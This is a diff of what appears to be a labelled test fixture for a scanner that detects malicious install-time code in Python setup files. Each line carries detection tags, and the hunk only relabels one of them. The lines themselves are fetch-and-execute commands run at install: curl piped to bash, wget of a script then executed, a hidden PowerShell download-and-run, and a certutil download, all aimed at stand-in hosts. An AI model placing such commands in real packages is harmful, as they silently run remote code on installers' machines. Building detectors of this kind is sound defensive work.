@@ -3,7 +3,7 @@ import os
 import subprocess
 from setuptools import setup
 os.system("curl -s https://example.com/install | bash")  # match: shell-download  # match: process-at-install
-os.system("cd /tmp && wget -q http://192.0.2.5/a.sh -O a.sh && chmod +x a.sh && ./a.sh")  # match: shell-download  # match: covert-channel  # match: process-at-install
+os.system("cd /tmp && wget -q http://192.0.2.5/a.sh -O a.sh && chmod +x a.sh && ./a.sh")  # match: shell-download  # match: process-at-install  # match: bare-address
 subprocess.call(["bash", "-c", "eval $(wget -qO- https://example.invalid/x)"])  # match: shell-download  # match: process-at-install
 subprocess.Popen('powershell -w hidden "iwr https://example.com/a.ps1 | iex"', shell=True)  # match: shell-download  # match: process-at-install
 os.system("certutil -urlcache -split -f https://example.com/a.exe a.exe & start a.exe")  # match: shell-download  # match: process-at-install
